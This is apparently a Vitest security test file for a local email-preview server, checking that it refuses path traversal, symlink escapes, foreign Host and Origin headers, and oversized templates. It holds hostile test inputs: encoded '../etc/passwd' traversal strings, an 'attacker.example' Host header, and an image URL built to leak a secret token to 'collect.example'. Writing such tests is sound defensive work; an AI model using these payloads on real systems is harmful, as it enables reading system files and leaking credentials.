/**
 * `content preview`'s server asked directly, with no browser, for what it must refuse: paths out of
 * its directory, links out of it, foreign Host and Origin headers, values files that are links, LMX
 * larger than the API takes; and with --compare, the original served with no script. The drawings
 * themselves are preview.test.ts's.
 */
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { type IncomingHttpHeaders, request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { converted, FOOTER, NEWS, original, startPreview, tree, WELCOME } from '../../../support/content-preview.js';
import { contentTree } from '../../../support/content-tree.js';
import { type Running, run, tempDir } from '../../../support/main.js';

/** A request exactly as written: the path is sent as it is, not normalized by a URL parser. */
function rawGet(
  url: string,
  path: string,
  headers: Record<string, string> = {},
  method = 'GET',
  body?: string,
): Promise<{ status: number; text: string; headers: IncomingHttpHeaders }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ host: hostname, port, path, method, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, text, headers: res.headers }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('content preview refuses what is not its own', () => {
  let root: string;
  let url: string;
  let running: Running;

  beforeAll(async () => {
    root = tree();
    // A link inside the directory to a file outside it.
    const outside = join(tempDir(), 'secret.lmx');
    writeFileSync(outside, '<Paragraph>secret outside the directory</Paragraph>\n');
    symlinkSync(outside, join(root, NEWS, 'linked.lmx'));
    ({ running, url } = await startPreview(root));
  });
  afterAll(async () => running.stop());

  it('prints its address as the first line, and its directory on stderr', async () => {
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
    const page = await rawGet(url, '/');
    expect(page.status).toBe(200);
    expect(page.text).toContain('October news');
    // Its one error, <Bold>, counted in the singular.
    expect(page.text).toContain('<span class="badge error" title="1 error">1</span>');
    // The link out of the directory is not listed.
    expect(page.text).not.toContain('linked.lmx');
  });

  it.each([
    '/../../etc/passwd',
    '/..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/email.html?path=../../etc/passwd',
    '/email.html?path=%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/email.html?path=%252e%252e%252fetc%252fpasswd',
    '/email.html?path=/etc/passwd',
    '/email.html?path=campaigns/../../../etc/passwd',
    '/email.html?path=campaigns\\..\\..\\..\\etc\\passwd',
    `/email.html?path=${encodeURIComponent(`${NEWS}/linked.lmx`)}`,
    `/email.html?path=${encodeURIComponent(`${NEWS}/campaign.json`)}`,
    '/?email=../../etc/passwd',
    '/preview.js/../../../etc/passwd',
  ])('GET %s: 404, nothing read', async (path) => {
    const answer = await rawGet(url, path);
    expect(answer.status).toBe(404);
    expect(answer.text).not.toContain('root:');
    expect(answer.text).not.toContain('secret outside');
  });

  it('shows an email of its list', async () => {
    const answer = await rawGet(url, `/email.html?path=${encodeURIComponent(`${NEWS}/email.lmx`)}`);
    expect(answer.status).toBe(200);
    expect(answer.text).toContain('What shipped in October');
  });

  it('draws an email byte for byte as content render prints it, and shows the size Gmail measures', async () => {
    const answer = await rawGet(url, `/email.html?path=${encodeURIComponent(`${WELCOME}/draft.lmx`)}`);
    expect(answer.status).toBe(200);
    const rendered = await run(['content', 'render', join(root, WELCOME, 'draft.lmx')], { env: { LOOPS_API_KEY: undefined } });
    expect(rendered.code, rendered.stderr).toBe(0);
    expect(answer.text).toBe(rendered.stdout);
    const page = await rawGet(url, `/?email=${encodeURIComponent(`${WELCOME}/draft.lmx`)}`);
    expect(page.text).toContain(`data-bytes="${Buffer.byteLength(rendered.stdout)}"`);
  });

  it('refuses a Host that is not its own loopback address (a DNS name pointed at 127.0.0.1)', async () => {
    const answer = await rawGet(url, '/', { host: `attacker.example:${new URL(url).port}` });
    expect(answer.status).toBe(403);
    expect(answer.text).not.toContain('October news');
  });

  it('saves values only from its own page, as JSON, for an email of its list', async () => {
    const host = new URL(url).host;
    const path = `/values?path=${encodeURIComponent(`${NEWS}/email.lmx`)}`;
    const json = { 'content-type': 'application/json' };
    expect((await rawGet(url, path, { ...json, origin: 'http://attacker.example' }, 'POST', '{}')).status).toBe(403);
    expect((await rawGet(url, path, { ...json }, 'POST', '{}')).status).toBe(403);
    expect((await rawGet(url, path, { origin: `http://${host}`, 'content-type': 'text/plain' }, 'POST', '{}')).status).toBe(415);
    const outside = `/values?path=${encodeURIComponent('../../tmp/x.lmx')}`;
    expect((await rawGet(url, outside, { ...json, origin: `http://${host}` }, 'POST', '{}')).status).toBe(404);
    expect((await rawGet(url, path, { ...json, origin: `http://${host}` }, 'POST', '{"data":{"x":1}}')).status).toBe(400);
    expect(existsSync(join(root, NEWS, '.email.values.json'))).toBe(false);
    const saved = await rawGet(url, path, { ...json, origin: `http://${host}` }, 'POST', '{"contact":{"firstName":"Ada"}}');
    expect(saved.status).toBe(200);
    expect(JSON.parse(readFileSync(join(root, NEWS, '.email.values.json'), 'utf8'))).toEqual({ contact: { firstName: 'Ada' } });
  });
});

describe('content preview reads and writes no file through a link, and no file without bound', () => {
  const SECRET = 'test-key-not-real-but-secret';
  const email = (path: string) => `/email.html?path=${encodeURIComponent(path)}`;
  const values = (path: string) => `/values?path=${encodeURIComponent(path)}`;

  /** A tree whose welcome email shows an image with a variable in its address, and a credentials file beside it. */
  function treeWithCredentials(): { root: string; credentials: string } {
    const root = contentTree({
      [`${WELCOME}/transactional.json`]: '{"name":"Welcome"}\n',
      [`${WELCOME}/draft.lmx`]: [
        '<Image src="https://collect.example/{data.token}.png" alt="" />',
        '<Image src="https://{data.host}/logo.png" alt="" />',
        '<Image src="HTTP://CDN.Acme.example:8443/logo.png" alt="" />',
        '',
      ].join('\n'),
    });
    const credentials = join(tempDir(), 'credentials.json');
    writeFileSync(credentials, `{"data": {"token": "${SECRET}", "host": "evil.example"}}\n`);
    return { root, credentials };
  }

  it('refuses a values file that is a link: nothing of what it points at is drawn into an image address', async () => {
    const { root, credentials } = treeWithCredentials();
    symlinkSync(credentials, join(root, WELCOME, '.draft.values.json'));
    const { running, url } = await startPreview(root);
    try {
      for (const path of [email(`${WELCOME}/draft.lmx`), `/?email=${encodeURIComponent(`${WELCOME}/draft.lmx`)}`]) {
        const answer = await rawGet(url, path);
        expect(answer.status, path).toBe(500);
        expect(answer.text).toContain('.draft.values.json is a symbolic link');
        expect(answer.text).not.toContain(SECRET);
      }
    } finally {
      await running.stop();
    }
  });

  it('never writes values through a link committed at the values file: the file it points at stays as it was', async () => {
    const { root, credentials } = treeWithCredentials();
    symlinkSync(credentials, join(root, WELCOME, '.draft.values.json'));
    const before = readFileSync(credentials, 'utf8');
    const { running, url } = await startPreview(root);
    try {
      const headers = { 'content-type': 'application/json', origin: `http://${new URL(url).host}` };
      const saved = await rawGet(url, values(`${WELCOME}/draft.lmx`), headers, 'POST', '{"data":{"token":"overwritten"}}');
      expect(saved.status).toBe(500);
      expect(saved.text).toContain('is a symbolic link');
      expect(readFileSync(credentials, 'utf8')).toBe(before);
    } finally {
      await running.stop();
    }
  });

  it('lets an email load images only from the hosts its LMX writes out, through the preview, never from one a value names', async () => {
    const { root } = treeWithCredentials();
    writeFileSync(join(root, WELCOME, '.draft.values.json'), '{"data": {"token": "t1", "host": "evil.example"}}\n');
    const { running, url } = await startPreview(root);
    try {
      const answer = await rawGet(url, email(`${WELCOME}/draft.lmx`));
      expect(answer.status).toBe(200);
      // The images of hosts the LMX writes out go through the preview; the one a value names stays as it is, and loads nothing.
      expect(answer.text).toContain(`/image?address=${encodeURIComponent('https://collect.example/t1.png')}`);
      expect(answer.text).toContain(`/image?address=${encodeURIComponent('HTTP://CDN.Acme.example:8443/logo.png')}`);
      expect(answer.text).toContain('src="https://evil.example/logo.png"');
      expect(answer.text).not.toContain('evil.example%2F');
      const policy = String(answer.headers['content-security-policy']);
      expect(policy).toContain("img-src 'self'; ");
      expect(policy).toContain("default-src 'none'");
      expect(policy).not.toContain('evil.example');
      // The page around the drawings loads none of its own.
      expect(String((await rawGet(url, '/')).headers['content-security-policy'])).toContain("img-src 'none';");
      // An email without images loads none.
      writeFileSync(join(root, WELCOME, 'draft.lmx'), '<Paragraph>No images</Paragraph>\n');
      expect(String((await rawGet(url, email(`${WELCOME}/draft.lmx`))).headers['content-security-policy'])).toContain("img-src 'none';");
    } finally {
      await running.stop();
    }
  });

  it('refuses LMX larger than the API takes without reading it, and goes on serving the rest', async () => {
    const root = tree();
    writeFileSync(join(root, NEWS, 'email.lmx'), `<Paragraph>${'x'.repeat(150 * 1024)}</Paragraph>\n`);
    // A record's name file far larger than a pull writes: the record is listed by its directory's name.
    writeFileSync(join(root, NEWS, 'campaign.json'), `{"name":"${'n'.repeat(2 * 1024 * 1024)}"}`);
    rmSync(join(root, FOOTER, 'component.lmx'));
    const { running, url } = await startPreview(root);
    try {
      const frame = await rawGet(url, email(`${NEWS}/email.lmx`));
      expect(frame.status).toBe(422);
      expect(frame.text).toContain('the API takes at most 102400 (100 KB)');
      const page = await rawGet(url, `/?email=${encodeURIComponent(`${NEWS}/email.lmx`)}`);
      expect(page.status).toBe(200);
      expect(page.text).toContain('the API takes at most 102400 (100 KB)');
      expect(page.text).not.toContain('xxxxxxxxxx');
      expect(page.text).not.toContain('nnnnnnnnnn');
      const other = await rawGet(url, email(`${WELCOME}/draft.lmx`));
      expect(other.status).toBe(200);
      expect(other.text).toContain('Welcome to Acme');
    } finally {
      await running.stop();
    }
  });
});

describe('content preview --compare', () => {
  it('serves the original with no script and images only from the hosts it names', async () => {
    const { running, url } = await startPreview(await converted(), '--compare', original());
    try {
      const response = await fetch(new URL('/original.html', url));
      expect(response.status).toBe(200);
      expect(await response.text()).toContain('Please confirm your email address');
      expect(response.headers.get('content-security-policy')).toBe(
        "default-src 'none'; img-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
      );
    } finally {
      await running.stop();
    }
  });

  it('takes the original as HTML only, and a file that is there', async () => {
    const root = await converted();
    const mjml = await run(['content', 'preview', root, '--compare', 'welcome.mjml']);
    expect(mjml.code).toBe(2);
    expect(mjml.stderr).toContain('--compare welcome.mjml: the original is compared as the HTML it sends');
    const missing = await run(['content', 'preview', root, '--compare', join(root, 'nothing.html')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('no such file');
  });
});
